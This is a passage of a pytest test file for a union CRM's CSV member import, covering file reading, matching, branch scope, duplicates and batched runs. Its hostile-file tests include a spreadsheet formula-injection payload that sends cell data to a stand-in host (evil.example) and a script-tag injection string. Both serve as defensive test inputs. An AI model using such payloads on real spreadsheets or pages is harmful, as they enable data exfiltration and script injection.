"""Importing members from CSV: reading real-world files, the dry run, matching, scope, duplicates, the run."""

from __future__ import annotations

import gc

import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.validators import validate_email

from crm import csvfiles
from crm.errors import NotPermitted, ServiceError
from crm.models import AuditEntry, ImportJob, ImportRow, Member
from crm.services import imports
from crm.tasks import import_members
from tests.factories import WorkplaceFactory

HEADINGS = "Membership number,First name,Surname,Email,Mobile,School,Category,Status,Date joined"


def snapshot():
    return {
        "members": list(Member.objects.order_by("pk").values()),
        "audit": list(AuditEntry.objects.order_by("pk").values_list("pk", flat=True)),
    }


def upload(user, text: str | bytes, *, source="Leeds City Council staff list", filename="staff.csv"):
    content = text.encode() if isinstance(text, str) else text
    return imports.start_import(actor=user, source_name=source, filename=filename, upload=content)


def check(user, text, mapping=None, **kwargs):
    job = upload(user, text, **kwargs)
    return imports.check_import(actor=user, job=job, mapping=mapping)


def rows(job, outcome=None):
    found = ImportRow.objects.filter(job=job).order_by("number")
    return list(found.filter(outcome=outcome) if outcome else found)


@pytest.fixture
def run():
    """Confirm a checked job and run its task here, in this process (a real worker: the `services` test)."""

    def confirm_and_run(user, job):
        imports.confirm_import(actor=user, job=job, in_background=False)
        import_members.apply(args=[job.pk]).get()
        job.refresh_from_db()
        return job

    return confirm_and_run


def owen_row(union) -> str:
    number = union.members.oak.membership_number
    return f"{number},Owen,Oakley,owen.new@example.org,07911 123456,Oak Primary,teacher,active,01/09/2020"


def csv_of(*lines: str) -> str:
    return "\n".join([HEADINGS, *lines]) + "\n"


@pytest.fixture
def organiser(union):
    return union.users.organiser_north


# --- reading files ------------------------------------------------------------------------------------


def test_dry_run_reports_creates_updates_and_rejections_row_by_row_and_changes_nothing(union, organiser):
    before = snapshot()
    text = csv_of(
        owen_row(union),
        ",Nina,New,nina@example.org,07911123457,Oak Primary,Teacher,Active,31/01/2024",
        ",Bad,Date,bad@example.org,,Oak Primary,teacher,active,31/13/2024",
    )
    job = check(organiser, text)
    assert job.status == ImportJob.Status.CHECKED
    assert (job.created_count, job.updated_count, job.rejected_count) == (1, 1, 1)
    report = rows(job)
    assert [r.outcome for r in report] == ["updated", "created", "rejected"]
    assert [r.line for r in report] == [2, 3, 4]
    assert report[0].changed == ["email", "mobile"]
    assert report[2].problems == [
        ["Date joined", "'31/13/2024' is not a date: write day/month/year (31/01/2024) or 2024-01-31."]
    ]
    assert snapshot() == before


def test_confirmed_import_writes_valid_rows_skips_rejected_and_audits(union, organiser, run):
    """(The page and API tests confirm through the queue: tests/crm/test_imports_pages.py.)"""
    text = csv_of(
        owen_row(union),
        ",Nina,New,nina@example.org,07911123457,Oak Primary,Teacher,Active,31-01-2024",
        ",Bad,Date,bad@example.org,,Oak Primary,teacher,active,31/13/2024",
    )
    job = run(organiser, check(organiser, text))
    assert job.status == ImportJob.Status.DONE
    assert (job.created_count, job.updated_count, job.rejected_count, job.rows_done) == (1, 1, 1, 3)
    oak = Member.objects.get(pk=union.members.oak.pk)
    assert (oak.email, oak.mobile) == ("owen.new@example.org", "+447911123456")
    nina = Member.objects.get(email="nina@example.org")
    assert nina.branch == union.branches.leeds and nina.employer == union.employers.council
    assert nina.joined_on.isoformat() == "2024-01-31" and nina.status == "active"
    assert nina.membership_number.startswith("Q")
    assert not Member.objects.filter(last_name="Date").exists()
    assert AuditEntry.objects.filter(member=oak, action="update", actor=organiser).count() == 1
    assert AuditEntry.objects.filter(member=nina, action="create").count() == 1
    assert AuditEntry.objects.filter(target_type="crm.importjob", target_id=job.pk).count() == 1
    created = rows(job, "created")[0]
    assert created.member == nina and created.membership_number == nina.membership_number


# --- files as people have them --------------------------------------------------------------------------


NEW_ROW = ",Nina,Newton,nina@example.org,07911123457,Oak Primary,teacher,active,31/01/2024"


@pytest.mark.parametrize(
    "content, encoding, delimiter",
    [
        (csv_of(NEW_ROW).encode("utf-8"), "utf-8", ","),
        (b"\xef\xbb\xbf" + csv_of(NEW_ROW).encode("utf-8"), "utf-8", ","),
        (csv_of(NEW_ROW).replace(",", ";").encode("cp1252"), "utf-8", ";"),
        (csv_of(NEW_ROW).replace(",", "\t").encode("utf-16"), "utf-16", "\t"),
        (csv_of(NEW_ROW).replace("\n", "\r\n").encode(), "utf-8", ","),
    ],
    ids=["utf-8", "utf-8 with BOM", "semicolons", "utf-16 tabs (Excel unicode text)", "windows line ends"],
)
def test_files_in_the_encodings_and_delimiters_people_have(union, organiser, content, encoding, delimiter):
    job = check(organiser, content)
    assert (job.encoding, job.delimiter) == (encoding, delimiter)
    assert job.headers[0] == "Membership number"  # the byte-order mark is not part of the first heading
    assert job.created_count == 1 and job.rejected_count == 0


def test_windows_1252_names_are_read_correctly(union, organiser, run):
    text = csv_of(",Zoë,O’Brien,zoe@example.org,,Oak Primary,teacher,active,2024-01-31")
    job = check(organiser, text.encode("cp1252"))
    assert job.encoding == "windows-1252"
    run(organiser, job)
    assert Member.objects.get(email="zoe@example.org").full_name == "Zoë O’Brien"


def test_quoted_newlines_blank_lines_and_tab_delimiters(union, organiser, run):
    text = (
        "Membership number\tFirst name\tSurname\tAddress line 1\tSchool\tCategory\n"
        "\n"
        '\tAnna\tAddress\t"Flat 2\n10 High Street"\tOak Primary\tteacher\n'
        "\n\n"
        "\tBen\tBlank\t\tOak Primary\tteacher\n"
    )
    job = check(organiser, text)
    assert job.delimiter == "\t" and job.total_rows == 2
    assert [(r.line, r.outcome) for r in rows(job)] == [(3, "created"), (7, "created")]
    run(organiser, job)
    assert Member.objects.get(last_name="Address").address_line1 == "Flat 2\n10 High Street"


@pytest.mark.parametrize(
    "raw, expected", [("31/01/2024", "2024-01-31"), ("31-01-2024", "2024-01-31"), ("2024-01-31", "2024-01-31")]
)
def test_uk_dates(union, organiser, run, raw, expected):
    job = run(organiser, check(organiser, csv_of(f",Dee,Date,dee@example.org,,Oak Primary,teacher,active,{raw}")))
    assert Member.objects.get(email="dee@example.org").joined_on.isoformat() == expected
    assert job.created_count == 1


@pytest.mark.parametrize("raw", ["07911 123456", "07911-123-456", "(07911) 123456", "+44 7911 123456", "447911123456"])
def test_phone_numbers_in_local_formats_are_stored_in_e164(union, organiser, run, raw):
    run(organiser, check(organiser, csv_of(f',Pat,Phone,pat@example.org,"{raw}",Oak Primary,teacher,active,')))
    assert Member.objects.get(email="pat@example.org").mobile == "+447911123456"


# --- hostile files: refused whole, nothing changed -----------------------------------------------------------


def refused(user, content, **kwargs) -> str:
    before = (snapshot(), ImportJob.objects.count())
    with pytest.raises(csvfiles.FileRefused) as error:
        upload(user, content, **kwargs)
    assert (snapshot(), ImportJob.objects.count()) == before
    return error.value.message


def test_a_file_over_50_mb_is_refused_before_it_is_parsed(union, organiser, tmp_path, monkeypatch):
    big = tmp_path / "big.csv"
    line = b"Q1234567,Ann,Other,ann@example.org,07911123456,Oak Primary,teacher,active,01/01/2020\n"
    with big.open("wb") as out:
        out.write(HEADINGS.encode() + b"\n")
        out.write(line * (imports.MAX_FILE_BYTES // len(line) + 1))
    assert big.stat().st_size > 50 * 1024 * 1024

    def never(*args, **kwargs):
        raise AssertionError("an oversized file must not be decoded")

    monkeypatch.setattr(csvfiles, "decode", never)
    with big.open("rb") as handle:
        message = refused(organiser, File(handle, name="big.csv"))
    assert "the limit is 50 MB" in message


@pytest.mark.parametrize(
    "content, says",
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "a PNG image"),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200, "an Excel workbook (.xlsx)"),
        (b"%PDF-1.7\n", "a PDF"),
        (b"Name,Email\x00\x00\x01binary", "not a text file"),
        (b"Name,Email\nAnn,ann@example.org\n" + b"\x81\x8d\x90", "neither UTF-8 nor Windows-1252"),
        (b"", "empty"),
        (b"\n\n  \n", "empty"),
        (HEADINGS.encode() + b"\n", "no data rows"),
        (b"Name,,Email\nAnn,,ann@example.org\n", "has no name"),
        (b"Email,email\nann@example.org,ann@example.org\n", "appears twice"),
    ],
    ids=["png", "xlsx", "pdf", "binary", "wrong encoding", "empty", "blank", "headings only", "blank heading", "twice"],
)
def test_files_that_are_not_csv_are_refused_with_a_clear_reason(union, organiser, content, says):
    assert says in refused(organiser, content)


def test_too_many_rows_is_refused(union, organiser, monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    assert "more than 3 rows" in refused(organiser, csv_of(*[NEW_ROW] * 5))


def test_formula_cells_are_rejected_row_by_row(union, organiser, run):
    before = snapshot()
    text = csv_of(
        ',=HYPERLINK("http://evil.example/?"&A1),Smith,f1@example.org,,Oak Primary,teacher,active,',
        ",@SUM(1+1),Smith,f2@example.org,,Oak Primary,teacher,active,",
        ',Jo,"-2+3",f3@example.org,,Oak Primary,teacher,active,',
        ",Jo,Fine,f4@example.org,,Oak Primary,teacher,active,",
    )
    job = check(organiser, text)
    report = rows(job)
    assert [r.outcome for r in report] == ["rejected", "rejected", "rejected", "created"]
    assert report[0].problems[0][0] == "First name" and "formula" in report[0].problems[0][1]
    assert report[2].problems[0][0] == "Surname"
    assert snapshot() == before
    run(organiser, job)
    assert list(Member.objects.filter(email__startswith="f").values_list("email", flat=True)) == ["f4@example.org"]


def test_script_in_names_is_stored_as_text_not_run(union, organiser, run):
    run(organiser, check(organiser, csv_of(",<script>alert(1)</script>,Smith,s@example.org,,Oak Primary,teacher,,")))
    assert Member.objects.get(email="s@example.org").first_name == "<script>alert(1)</script>"
    # Pages escape it: tests/crm/test_imports_pages.py


# --- matching, scope and duplicates --------------------------------------------------------------------


def test_matches_by_number_then_email_and_updates_only_mapped_columns(union, organiser, run):
    oak, elm = union.members.oak, union.members.elm
    text = f"Membership number,Email,Town\n{oak.membership_number},,Leeds\n,{elm.email},York\n"
    job = run(organiser, check(organiser, text))
    assert (job.updated_count, job.created_count) == (2, 0)
    oak.refresh_from_db()
    elm.refresh_from_db()
    assert (oak.town, elm.town) == ("Leeds", "York")
    assert oak.email != "" and oak.first_name == "Owen"  # a blank or unmapped cell changes nothing


def test_an_email_matches_whatever_its_case_in_the_file_or_on_the_member(union, organiser, run):
    """Staff lists and old systems write emails in their own case: owen.oakley@example.org is Owen's."""
    oak, elm = union.members.oak, union.members.elm
    Member.objects.filter(pk=oak.pk).update(email="Owen.Oakley@Example.org")
    members, shouted = Member.objects.count(), elm.email.upper()
    job = check(organiser, f"Email,Town\nowen.oakley@example.org,Leeds\n{shouted},York\n")
    assert [(r.outcome, r.member_id) for r in rows(job)] == [("updated", oak.pk), ("updated", elm.pk)]
    job = run(organiser, job)
    assert (job.updated_count, job.created_count, Member.objects.count()) == (2, 0, members)
    oak.refresh_from_db()
    elm.refresh_from_db()
    assert (oak.town, elm.town) == ("Leeds", "York")
    assert (oak.email, elm.email) == ("owen.oakley@example.org", shouted)  # as the file writes them


def test_unchanged_rows_write_nothing(union, organiser, run):
    oak = union.members.oak
    job = run(organiser, check(organiser, f"Membership number,First name\n{oak.membership_number},Owen\n"))
    assert job.unchanged_count == 1 and not AuditEntry.objects.filter(member=oak).exists()


def test_an_organiser_cannot_touch_a_member_outside_their_patch(union, run):
    organiser = union.users.organiser_bristol
    oak, ash = union.members.oak, union.members.ash
    before = Member.objects.get(pk=oak.pk)
    text = (
        "Membership number,Email,Town,Workplace,First name,Surname,Category\n"
        f"{oak.membership_number},,Leeds,,,,\n"  # an existing member in Leeds
        f",{oak.email},Leeds,,,,\n"  # the same, found by email
        ",,,Oak Primary,Nia,Newby,teacher\n"  # a new member in Leeds
        f"{ash.membership_number},,Bristol,,,,\n"  # their own member: fine
        ",,,Ash College,Bea,Bristow,lecturer\n"  # a new member in their branch: fine
    )
    job = run(organiser, check(organiser, text))
    outcomes = [(r.outcome, r.problems[:1]) for r in rows(job)]
    assert outcomes == [
        ("rejected", [["Membership number", "This member is outside your branches: not changed."]]),
        ("rejected", [["Email", "This member is outside your branches: not changed."]]),
        ("rejected", [["Workplace", "Leeds branch is outside your branches."]]),
        ("updated", []),
        ("created", []),
    ]
    assert Member.objects.get(pk=oak.pk).town == before.town
    assert not Member.objects.filter(last_name="Newby").exists()
    assert Member.objects.get(pk=ash.pk).town == "Bristol"


def test_an_organiser_cannot_move_a_member_out_of_their_patch(union, organiser, run):
    oak = union.members.oak
    job = run(organiser, check(organiser, f"Membership number,Workplace\n{oak.membership_number},Ash College\n"))
    assert job.rejected_count == 1
    assert Member.objects.get(pk=oak.pk).workplace == union.workplaces.oak


def test_a_duplicated_membership_number_with_different_details_is_rejected_on_every_line(union, organiser, run):
    oak = union.members.oak
    text = f"Membership number,Town\n{oak.membership_number},Leeds\n{oak.membership_number},Wakefield\n"
    job = run(organiser, check(organiser, text))
    report = rows(job)
    assert [r.outcome for r in report] == ["rejected", "rejected"]
    assert "lines 2, 3" in report[0].problems[0][1]
    assert Member.objects.get(pk=oak.pk).town == ""


def test_a_repeated_row_is_imported_once(union, organiser, run):
    job = run(organiser, check(organiser, csv_of(NEW_ROW, NEW_ROW)))
    assert [r.outcome for r in rows(job)] == ["created", "duplicate"]
    assert rows(job)[1].problems == [["", "Same as line 2; imported once."]]
    assert Member.objects.filter(email="nina@example.org").count() == 1


def test_email_of_another_member_with_a_new_number_is_rejected(union, organiser):
    job = check(organiser, f"Membership number,Email,Town\nX999,{union.members.oak.email},Leeds\n")
    assert "belongs to member" in rows(job)[0].problems[0][1]


@pytest.mark.parametrize(
    "row, column, says",
    [
        ("Nina,Newton,Oak Primary,boss,", "Category", "'boss' is not one of: Teacher, Leader"),
        ("Nina,Newton,Nowhere School,teacher,", "School", "There is no workplace called 'Nowhere School'."),
        ("Nina,Newton,Oak Primary,teacher,maybe", "SMS consent", "'maybe' is not yes or no."),
        (",Newton,Oak Primary,teacher,", "First name", "A new member needs a first name."),
        ("Nina,Newton,Oak Primary,teacher,yes", "SMS consent", "SMS consent needs a mobile number."),
        ("Nina," + "N" * 101 + ",Oak Primary,teacher,", "Surname", "Too long: at most 100 characters."),
    ],
)
def test_bad_cells_are_reported_with_their_column(union, organiser, row, column, says):
    job = check(organiser, "First name,Surname,School,Category,SMS consent\n" + row + "\n")
    problems = rows(job)[0].problems
    assert any(c == column and reason.startswith(says) for c, reason in problems), problems
    assert job.rejected_count == 1


def test_mapping_is_remembered_per_source(union, organiser):
    text = "Staff no,Forename,Family,Site,Role\n,Nina,Newton,Oak Primary,teacher\n"
    mapping = {"Forename": "first_name", "Family": "last_name", "Site": "workplace", "Role": "category"}
    check(organiser, text, mapping=mapping, source="Leeds payroll")
    again = upload(organiser, text, source="Leeds payroll")
    assert again.mapping == mapping
    # A new source starts from the headings it recognises.
    assert upload(organiser, text, source="Another list").mapping == {"Forename": "first_name"}


@pytest.mark.parametrize(
    "mapping, says",
    [
        ({"Nope": "email"}, "no column called"),
        ({"Email": "password"}, "not a member field"),
        ({"Email": "email", "Mobile": "email"}, "Two columns"),
        ({"Town": "town"}, "Map a membership number or email"),
    ],
)
def test_a_bad_mapping_is_refused(union, organiser, mapping, says):
    job = upload(organiser, "Email,Mobile,Town\na@example.org,,Leeds\n")
    with pytest.raises(ServiceError, match=says):
        imports.check_import(actor=organiser, job=job, mapping=mapping)


@pytest.mark.parametrize("persona", ["rep_oak", "member_oak", "scrutineer", "outsider"])
def test_only_national_admins_and_organisers_import(union, persona):
    with pytest.raises(NotPermitted):
        upload(getattr(union.users, persona), csv_of(NEW_ROW))


def test_only_the_uploader_checks_and_confirms(union, organiser):
    job = upload(organiser, csv_of(NEW_ROW))
    with pytest.raises(NotPermitted):
        imports.check_import(actor=union.users.national, job=job)
    job = imports.check_import(actor=organiser, job=job)
    with pytest.raises(NotPermitted):
        imports.confirm_import(actor=union.users.organiser_bristol, job=job)


# --- the task ------------------------------------------------------------------------------------------


def test_the_task_run_twice_imports_once(union, organiser):
    job = check(organiser, csv_of(NEW_ROW, ",Ola,Other,ola@example.org,,Oak Primary,teacher,active,"))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    assert import_members.apply(args=[job.pk]).get() == "done"
    after_first = snapshot()
    assert import_members.apply(args=[job.pk]).get() == "done"
    assert snapshot() == after_first
    assert Member.objects.filter(email__in=["nina@example.org", "ola@example.org"]).count() == 2
    assert AuditEntry.objects.filter(target_type="crm.importjob").count() == 1


def test_an_unconfirmed_job_is_not_run_by_the_task(union, organiser):
    job = check(organiser, csv_of(NEW_ROW))
    assert import_members.apply(args=[job.pk]).get() == "checked"
    assert not Member.objects.filter(email="nina@example.org").exists()


def test_checks_and_imports_collect_less_often_then_put_the_collector_back(union, organiser, monkeypatch):
    during = []
    real_decide = imports.Planner.decide

    def decide(self, rows, found):
        during.append(gc.get_threshold())
        return real_decide(self, rows, found)

    monkeypatch.setattr(imports.Planner, "decide", decide)
    before = gc.get_threshold()
    job = check(organiser, csv_of(owen_row(union)))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    assert imports.run_import(job_id=job.pk).status == ImportJob.Status.DONE
    # The dry run's batch, then the import's.
    assert during == [(max(before[0], imports.COLLECT_AFTER), *before[1:])] * 2
    assert gc.get_threshold() == before
    with pytest.raises(RuntimeError), imports.fewer_collections():
        raise RuntimeError("an import failed")
    assert gc.get_threshold() == before


def test_rejected_emails_and_mobiles_leave_nothing_for_the_cycle_collector(union, organiser, run):
    """With the collector running rarely, garbage in cycles stays until the import ends; a rejected cell's
    error once kept its whole batch of rows alive that way."""
    lines = [
        ",Nina,New,not-an-email,07911123457,Oak Primary,teacher,active,",
        ",Pat,Poor,pat@example.org,12345,Oak Primary,teacher,active,",
        ",Sam,Sound,sam@example.org,07911123458,Oak Primary,teacher,active,",
    ]
    gc.collect()
    gc.disable()
    gc.set_debug(gc.DEBUG_SAVEALL)  # what the collector would free is kept in gc.garbage, to be looked at
    try:
        job = run(organiser, check(organiser, csv_of(*lines)))
        gc.collect()
        kept = [type(thing).__name__ for thing in gc.garbage if type(thing) in (imports.Row, imports.Checked)]
    finally:
        gc.set_debug(0)
        gc.garbage.clear()
        gc.enable()
    assert (job.created_count, job.rejected_count) == (1, 2)
    assert kept == []


def test_a_failure_mid_import_leaves_whole_batches_and_resumes(union, organiser, monkeypatch):
    monkeypatch.setattr(imports, "BATCH_SIZE", 2)
    lines = [f",Person,Number{i},p{i}@example.org,,Oak Primary,teacher,active," for i in range(5)]
    job = check(organiser, csv_of(*lines))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    real_insert = imports._insert
    calls = {"n": 0}

    def failing_audit(model, objects):
        if model is AuditEntry:
            calls["n"] += 1
            if calls["n"] == 2:
                raise RuntimeError("database went away")
        return real_insert(model, objects)

    monkeypatch.setattr(imports, "_insert", failing_audit)
    with pytest.raises(RuntimeError):
        imports.run_import(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and "went away" in job.error
    assert job.rows_done == 2
    # The failed batch's members were rolled back with their audit rows: no half-written member.
    assert sorted(Member.objects.filter(email__startswith="p").values_list("email", flat=True)) == [
        "p0@example.org",
        "p1@example.org",
    ]
    assert AuditEntry.objects.filter(member__email__startswith="p").count() == 2
    monkeypatch.setattr(imports, "_insert", real_insert)
    job = imports.run_import(job_id=job.pk)
    assert job.status == ImportJob.Status.DONE and job.rows_done == 5 and job.created_count == 5
    assert Member.objects.filter(email__startswith="p").count() == 5
    assert AuditEntry.objects.filter(member__email__startswith="p").count() == 5


def test_each_batch_is_matched_against_what_the_batches_before_it_wrote(union, organiser, run, monkeypatch):
    """On PostgreSQL the next batch is planned while the one before is being written; its members are looked up
    once that batch's members are in, so the outcome is the same as one batch after the other."""
    monkeypatch.setattr(imports, "BATCH_SIZE", 2)
    oak = union.members.oak
    joined = oak.joined_on
    job = check(
        organiser,
        csv_of(
            ",Nina,New,nina@example.org,,Oak Primary,teacher,active,",  # batch 1: added, numbered by Quorum
            f"{oak.membership_number},Owain,,,,,,,",  # batch 1: Owen's first name
            f",,Oakley-Hill,{oak.email},,,,,02/03/2021",  # batch 2: Owen again, found by email
            "ZZ1,Nina,New,nina@example.org,,Oak Primary,teacher,active,",  # batch 2: Nina's email, another number
        ),
    )
    assert [r.outcome for r in rows(job)] == ["created", "updated", "updated", "created"]  # Nina not there yet
    job = run(organiser, job)
    nina = Member.objects.get(email="nina@example.org")
    assert [r.outcome for r in rows(job)] == ["created", "updated", "updated", "rejected"]
    assert f"the email belongs to member {nina.membership_number}" in rows(job)[3].problems[0][1]
    oak.refresh_from_db()
    assert (oak.first_name, oak.last_name, str(oak.joined_on)) == ("Owain", "Oakley-Hill", "2021-03-02")
    assert [e.changes for e in AuditEntry.objects.filter(member=oak, action="update").order_by("pk")] == [
        {"first_name": ["Owen", "Owain"]},
        {"last_name": ["Oakley", "Oakley-Hill"], "joined_on": [joined and joined.isoformat(), "2021-03-02"]},
    ]


def test_a_membership_number_taken_while_the_import_runs_is_given_out_again(union, organiser, run, monkeypatch):
    job = check(organiser, csv_of(",Nina,New,nina@example.org,,Oak Primary,teacher,active,"))
    free = imports.next_membership_number()
    # Someone adds a member with that number just after the import looked it up.
    answers = iter([free])
    real = imports.next_membership_number
    monkeypatch.setattr(imports, "next_membership_number", lambda: next(answers, None) or real())
    Member.objects.create(
        membership_number=free, first_name="Sam", last_name="Same", branch=union.branches.leeds, category="teacher"
    )
    job = run(organiser, job)
    assert (job.status, job.created_count, job.error) == (ImportJob.Status.DONE, 1, "")
    nina = Member.objects.get(email="nina@example.org")
    assert nina.membership_number == f"Q{int(free[1:]) + 1:07d}"
    assert AuditEntry.objects.filter(member=nina).count() == 1


def test_planning_a_batch_reads_nothing_from_the_database(union, organiser, monkeypatch):
    """Everything a batch's plan needs is read before it is planned (in a second thread on PostgreSQL, where a
    query would run outside the import's transaction): a query while planning is refused, loudly."""
    job = check(organiser, csv_of(owen_row(union)))
    real_decide = imports.Planner.decide

    def decide_with_a_query(self, rows, found):
        Member.objects.count()
        return real_decide(self, rows, found)

    monkeypatch.setattr(imports.Planner, "decide", decide_with_a_query)
    with pytest.raises(RuntimeError, match="must not read the database"):
        check(organiser, csv_of(owen_row(union)))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    before = snapshot()
    with pytest.raises(RuntimeError, match="must not read the database"):
        imports.run_import(job_id=job.pk)
    assert snapshot() == before
    assert ImportJob.objects.get(pk=job.pk).status == ImportJob.Status.FAILED


def test_rows_are_checked_again_when_the_import_runs(union, organiser, run):
    """A member moved out of the organiser's patch after the dry run is not changed by the import."""
    oak = union.members.oak
    job = check(organiser, f"Membership number,Town\n{oak.membership_number},Leeds\n")
    assert job.updated_count == 1
    Member.objects.filter(pk=oak.pk).update(branch=union.branches.bristol, workplace=union.workplaces.ash)
    job = run(organiser, job)
    assert (job.updated_count, job.rejected_count) == (0, 1)
    assert Member.objects.get(pk=oak.pk).town == ""


@pytest.mark.services
def test_an_import_runs_on_a_real_worker(union, organiser, celery_worker_process):
    job = check(organiser, csv_of(NEW_ROW))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    result = import_members.apply_async(args=[job.pk], queue=celery_worker_process)
    assert result.get(timeout=60) == "done"
    assert import_members.apply_async(args=[job.pk], queue=celery_worker_process).get(timeout=60) == "done"
    assert Member.objects.filter(email="nina@example.org").count() == 1
    job.refresh_from_db()
    assert (job.status, job.rows_done, job.created_count) == ("done", 1, 1)


def test_a_job_whose_uploader_has_gone_is_not_run(union, organiser):
    job = check(organiser, csv_of(NEW_ROW))
    imports.confirm_import(actor=organiser, job=job, in_background=False)
    organiser.delete()
    assert import_members.apply(args=[job.pk]).get() == "failed"
    assert "no longer has an account" in ImportJob.objects.get(pk=job.pk).error
    assert not Member.objects.filter(email="nina@example.org").exists()


def test_demo_data_can_be_flushed_after_an_import(union, organiser, run):
    from crm.management.demo_seed import flush_crm_data

    run(organiser, check(organiser, csv_of(NEW_ROW)))
    flush_crm_data()
    assert not ImportJob.objects.exists() and not Member.objects.exists()


@pytest.mark.parametrize("raw", ["01/31/2024", "2024/01/31", "31 Jan 2024", "31/01/24", "31/01/2999"])
def test_dates_that_are_not_day_first_or_are_in_the_future_are_rejected(union, organiser, raw):
    job = check(organiser, csv_of(f",Dee,Date,dee@example.org,,Oak Primary,teacher,active,{raw}"))
    assert job.rejected_count == 1 and rows(job)[0].problems[0][0] == "Date joined"


def test_updates_in_a_batch_store_dates_times_and_numbers_as_the_form_would(union, organiser, run):
    """Updates go in as one statement per batch (PostgreSQL: UPDATE ... FROM VALUES): every type arrives intact."""
    oak = union.members.oak
    oak.status = Member.Status.LAPSED
    oak.save()
    headings = "Membership number,Mobile,Status,SMS consent,In arrears"
    job = imports.check_import(
        actor=organiser, job=upload(organiser, f"{headings}\n{oak.membership_number},07911 123456,active,yes,no\n")
    )
    assert job.updated_count == 1
    run(organiser, job)
    oak.refresh_from_db()
    assert oak.mobile == "+447911123456"
    assert oak.status == Member.Status.ACTIVE
    assert oak.sms_consent is True
    assert oak.sms_consent_source == Member.ConsentSource.IMPORT
    assert oak.sms_consent_at is not None
    assert oak.has_arrears is False
    assert oak.status_changed_on is not None


def test_a_bad_mobile_repeated_on_several_lines_is_rejected_on_each(union, organiser):
    text = csv_of(
        ",Ann,One,ann@example.org,12345,Oak Primary,teacher,active,01/09/2020",
        ",Bob,Two,bob@example.org,12345,Oak Primary,teacher,active,01/09/2020",
        ",Cat,Three,cat@example.org,07911 123456,Oak Primary,teacher,active,01/09/2020",
        ",Dan,Four,dan@example.org,07911 123456,Oak Primary,teacher,active,01/09/2020",
    )
    job = check(organiser, text)
    assert [r.outcome for r in rows(job)] == ["rejected", "rejected", "created", "created"]
    assert all(r.problems[0][0] == "Mobile" for r in rows(job, "rejected"))


def test_the_import_keeps_the_dry_runs_reading_of_mobiles_and_checks_the_rest_again(union, organiser, run, monkeypatch):
    text = csv_of(
        ",Nina,New,nina@example.org,07911 123457,Oak Primary,teacher,active,01/09/2020",
        ",Bad,Phone,badphone@example.org,12345,Oak Primary,teacher,active,01/09/2020",
    )
    job = check(organiser, text)
    assert (job.created_count, job.rejected_count) == (1, 1)

    def parse_again(raw):
        raise AssertionError(f"{raw} parsed again")

    monkeypatch.setattr(imports, "normalise_mobile", parse_again)
    job = run(organiser, job)
    assert (job.created_count, job.rejected_count) == (1, 1)
    assert Member.objects.get(email="nina@example.org").mobile == "+447911123457"
    assert not Member.objects.filter(email="badphone@example.org").exists()
    assert rows(job, "rejected")[0].problems[0][0] == "Mobile"


def test_the_import_starts_from_the_dry_runs_reading_of_the_file(union, organiser, run, monkeypatch):
    """The file is not read again: cells, repeats and mobiles come from the dry run; matching and scope do not."""
    text = csv_of(
        ",Nina,New,nina@example.org,07911 123457,Oak Primary,teacher,active,01/09/2020",
        ",Nina,New,nina@example.org,07911 123457,Oak Primary,teacher,active,01/09/2020",
        ",Dee,Date,dee@example.org,,Oak Primary,teacher,active,31/13/2020",
        owen_row(union),
    )
    job = check(organiser, text)
    assert (job.created_count, job.updated_count, job.duplicate_count, job.rejected_count) == (1, 1, 1, 1)

    def read_again(*args, **kwargs):
        raise AssertionError("the file was read again")

    monkeypatch.setattr(imports, "parse_values", read_again)
    monkeypatch.setattr(imports, "rows_of", read_again)
    job = run(organiser, job)
    assert (job.created_count, job.updated_count, job.duplicate_count, job.rejected_count) == (1, 1, 1, 1)
    nina = Member.objects.get(email="nina@example.org")
    assert (nina.mobile, nina.joined_on.isoformat(), nina.workplace) == (
        "+447911123457",
        "2020-09-01",
        union.workplaces.oak,
    )
    assert Member.objects.get(pk=union.members.oak.pk).email == "owen.new@example.org"
    assert rows(job, "rejected")[0].problems[0][0] == "Date joined"
    assert rows(job, "duplicate")[0].line == 3


def test_a_workplace_removed_after_the_dry_run_rejects_its_rows(union, organiser, run):
    elm = WorkplaceFactory(name="Elm Nursery", branch=union.branches.leeds, employer=union.workplaces.oak.employer)
    job = check(organiser, csv_of(",Nina,New,nina@example.org,,Elm Nursery,teacher,active,01/09/2020"))
    assert job.created_count == 1
    elm.delete()
    job = run(organiser, job)
    assert (job.created_count, job.rejected_count) == (0, 1)
    assert rows(job)[0].problems == [["School", "The workplace this row names no longer exists."]]
    assert not Member.objects.filter(email="nina@example.org").exists()


def test_a_job_checked_before_rows_were_kept_reads_the_file_again(union, organiser, run):
    job = check(organiser, csv_of(",Nina,New,nina@example.org,07911 123457,Oak Primary,teacher,active,01/09/2020"))
    ImportJob.objects.filter(pk=job.pk).update(checked_rows=b"")
    job = run(organiser, job)
    assert (job.status, job.created_count) == ("done", 1)
    assert Member.objects.get(email="nina@example.org").mobile == "+447911123457"


EMAILS = [
    "a@example.org",
    "A.B+tag@EXAMPLE.ORG",
    "a@localhost",
    "a@[127.0.0.1]",
    "a@[999.1.1.1]",
    '"x y"@example.org',
    "a@example..org",
    "a@-example.org",
    "ü@example.org",
    "a@exämple.org",
    "a@example.org.",
    "a@b",
    "a@",
    "@example.org",
    "not-an-email",
    "a@" + "x" * 320 + ".org",
]


@pytest.mark.parametrize("email", EMAILS)
def test_the_imports_email_check_is_djangos(email):
    """The import keeps each domain's answer; asked twice, it still answers as validate_email does."""

    def accepts(check) -> bool:
        try:
            check(email)
        except ValidationError:
            return False
        return True

    assert accepts(imports.validate_email) == accepts(validate_email)
    assert accepts(imports.validate_email) == accepts(validate_email)


def test_a_branch_column_tells_apart_workplaces_that_share_a_name(union, organiser, run):
    york_oak = WorkplaceFactory(name="Oak Primary", branch=union.branches.york, employer=union.workplaces.oak.employer)
    text = "\n".join(
        [
            "First name,Surname,Email,School,Branch,Category",
            "Yan,York,yan@example.org,Oak Primary,York,teacher",
            "Lee,Leeds,lee@example.org,oak primary,leeds,teacher",
            "Nob,Ranch,nob@example.org,Oak Primary,,teacher",
            "Wes,Wrong,wes@example.org,Oak Primary,Bristol,teacher",
